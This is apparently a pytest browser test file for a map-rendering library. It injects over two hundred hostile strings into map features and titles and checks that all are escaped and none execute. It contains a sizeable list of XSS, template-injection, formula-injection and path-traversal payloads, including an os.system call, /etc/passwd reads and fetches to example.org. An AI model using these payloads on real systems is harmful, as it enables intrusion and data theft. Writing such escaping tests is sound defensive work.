@@ -1,0 +1,225 @@
+"""Text that tries to run, in every place where text goes in: none of it does, and all of it is shown."""
+
+from dataclasses import replace
+
+import geopandas as gpd
+import pandas as pd
+import pytest
+from shapely import Point, box
+
+from rimland.layers import Source, load_theatre
+from rimland.maps import StrategicMap
+
+pytestmark = pytest.mark.browser
+
+# Whatever runs says so in `window.pwned`, or in a file of this name, or as a dialog, or as a request.
+MARK = "pwned"
+
+TEMPLATES = [
+    "{{ 7*7 }}",
+    "{{ cycler.__init__.__globals__.os.system('touch pwned') }}",
+    "{{ self.__init__.__globals__ }}",
+    "{% for x in range(9) %}x{% endfor %}",
+    "{% include '/etc/passwd' %}",
+    "{% raw %}",
+    "{# never closed",
+    "{{ 'never closed'",
+    "{%",
+    "}}",
+    "${alert(1)}",
+    "`${window.pwned=1}`",
+    "#{7*7}",
+    "<%= 7*7 %>",
+]
+
+MARKUP = [
+    "<script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "</SCRIPT ><script>window.pwned=1</script>",
+    "<!--<script>",
+    "--><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</noscript><script>window.pwned=1</script>",
+    "]]><script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img src=https://example.org/pwned.png>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<iframe src=javascript:window.pwned=1></iframe>",
+    "<a href=javascript:window.pwned=1>x</a>",
+    "<body onload=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<math><mtext></mtext><style><img src=x onerror=window.pwned=1></style></math>",
+    "<link rel=stylesheet href=https://example.org/pwned.css>",
+    "<meta http-equiv=refresh content='0;url=https://example.org/pwned'>",
+    "<base href=https://example.org/>",
+    "<form action=https://example.org/pwned><input type=submit></form>",
+    "<object data=javascript:window.pwned=1>",
+    "<template><script>window.pwned=1</script></template>",
+    "<style>@import 'https://example.org/pwned.css';</style>",
+    "<style>*{background:url(https://example.org/pwned)}</style>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "<b>bold</b>",
+]
+
+QUOTES = [
+    '"',
+    "'",
+    "`",
+    "\\",
+    '\\"',
+    '" onmouseover="window.pwned=1',
+    "' onmouseover='window.pwned=1",
+    '";window.pwned=1;//',
+    "';window.pwned=1;//",
+    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "vbscript:pwned",
+    "$&$`$'$1",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "__proto__",
+    "constructor",
+    "toString",
+    "url(https://example.org/pwned)",
+    "expression(window.pwned=1)",
+    '=HYPERLINK("https://example.org/pwned")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "../../pwned",
+    "/etc/passwd",
+    "C:\\pwned",
+]
+
+UNICODE = [
+    "line\u2028separator",
+    "paragraph\u2029separator",
+    "\u202eright to left override",
+    "\u2066isolate\u2069",
+    "\u202dleft to right",
+    "zero\u200bwidth\ufeff",
+    "lone\ud800surrogate",
+    "lone\udfff",
+    "nul\0byte",
+    "bell\x07",
+    "line\nbreak\r\nand\ttab",
+    "\ufffe\uffff",
+    "\ufdd0",
+    "e" + "\u0301" * 60,
+    "\U0001f1f9\U0001f1fc\U0001f1ef\U0001f1f5",
+    "\U000e0041\U000e0042",
+    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
+    "\u2039script\u203a",
+    "a" * 5000,
+    "あ" * 5000,
+    " " * 100 + "x",
+    "<" * 500,
+]
+
+PAYLOADS = [
+    "window.pwned=1",
+    "import('https://example.org/pwned.js')",
+    "fetch('https://example.org/pwned')",
+    "alert(1)",
+]
+HANDLERS = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart", "onpointerenter", "onbegin"]
+ELEMENTS = ["img src=x", "svg", "input autofocus", "video src=x", "body", "details open"]
+WRAPPED = [
+    f"<{element} {handler}={payload!r}>" for element in ELEMENTS for handler in HANDLERS for payload in PAYLOADS
+][::2]
+CLOSED = [
+    f"{end}<script>{payload}</script>"
+    for end in ("</script>", "</style>", "</title>", "-->", "'>", '">', "`", "*/", "]]>", "</svg>")
+    for payload in PAYLOADS
+]
+
+STRINGS = [*TEMPLATES, *MARKUP, *QUOTES, *UNICODE, *CLOSED, *WRAPPED]
+
+
+def no_complaint(watched, path) -> None:
+    assert watched.complaints == []
+    assert [url for url in watched.requests if not url.startswith(path.as_uri())] == []
+
+
+COLUMNS = (
+    *("id", "name_en", "name_ja", "name_zh_hant", "name", "source", "note_en", "note_ja", "status", "claimants"),
+    *("administered_by", "position_grade", "fact_grade", "valid_from", "group_en", "group_ja", "side_a", "extra"),
+)
+
+
+def hostile_frame(offset: int) -> gpd.GeoDataFrame:
+    """A point for each string, with a different one in each of its columns, and two in the columns' own names."""
+    rows = len(STRINGS)
+    data = {
+        column: [STRINGS[(row + turn * 7 + offset) % rows] for row in range(rows)]
+        for turn, column in enumerate(COLUMNS)
+    }
+    data |= {STRINGS[5]: STRINGS, "<img src=x onerror=window.pwned=1>": STRINGS}
+    # As objects: pandas' own texts are UTF-8 and cannot hold a lone surrogate.
+    columns = {name: pd.Series(values, dtype=object) for name, values in data.items()}
+    shapes = [Point(118.5 + row % 30 * 0.5, 20.5 + row // 30 * 0.8) for row in range(rows)]
+    return gpd.GeoDataFrame(columns, geometry=shapes, crs=4326)
+
+
+def nothing_ran(watched, path, folder) -> None:
+    assert watched.page.evaluate("window.pwned") is None
+    no_complaint(watched, path)
+    assert not list(folder.rglob(MARK))
+
+
+def test_two_hundred_hostile_strings_in_features_are_shown_as_text_and_none_runs(theatre, tmp_path, watch, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    assert len(STRINGS) >= 200
+    made = StrategicMap(theatre, lang="en")
+    for number, shape in enumerate((hostile_frame(0), hostile_frame(3))):
+        made.add(shape, name=STRINGS[number])
+    path = made.save(tmp_path / "map.html")
+    watched = watch()
+    page = watched.open(path)
+    page.get_by_role("button", name="Table of features").click()
+    table = page.locator("#table-body").text_content()
+    for text in STRINGS:
+        wanted = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")
+        assert wanted in table, repr(text[:60])
+    page.get_by_role("button", name="Close").last.click()
+    for language in ("日本語", "中文", "English"):
+        page.get_by_role("button", name=language, exact=True).click()
+    hits = page.locator("path.hit[aria-label]")
+    for turn in range(0, hits.count(), 9):
+        hits.nth(turn).focus()
+        page.keyboard.press("Enter")
+    nothing_ran(watched, path, tmp_path)
+
+
+HOSTILE_TITLES = [text for text in STRINGS if text.strip()][::12]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TITLES, ids=range(len(HOSTILE_TITLES)))
+def test_a_hostile_title_of_layer_or_theatre_is_text(theatre, tmp_path, watch, monkeypatch, text):
+    monkeypatch.chdir(tmp_path)
+    chosen = load_theatre(theatre)
+    texts = dict.fromkeys(("en", "ja", "zh-Hant"), text)
+    source = Source(id="survey", title=text, publisher=text, date=text, url=text, licence=text)
+    bad = replace(
+        chosen.catalog["islands"], name="bad", title=texts, summary=texts, caveat=texts, group=text, as_of=text,
+        licence=text, sources=(source,), gaps=(text,), edges="geodesic",
+    )  # fmt: skip
+    made = StrategicMap(replace(chosen, title=texts), lang="en").add(bad)
+    made.add(box(130, 30, 131, 31), name=text)
+    path = made.save(tmp_path / "map.html")
+    watched = watch()
+    page = watched.open(path)
+    for more in page.locator(".more").all():
+        more.click()
+    page.locator('path[aria-label^="Big,"]').last.focus()
+    page.keyboard.press("Enter")
+    shown = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")
+    assert page.locator("#title").text_content() == shown
+    assert shown in page.locator("#legend").text_content()
+    links = page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
+    assert set(links) <= {"http:", "https:", "mailto:", "file:"}
+    nothing_ran(watched, path, tmp_path)
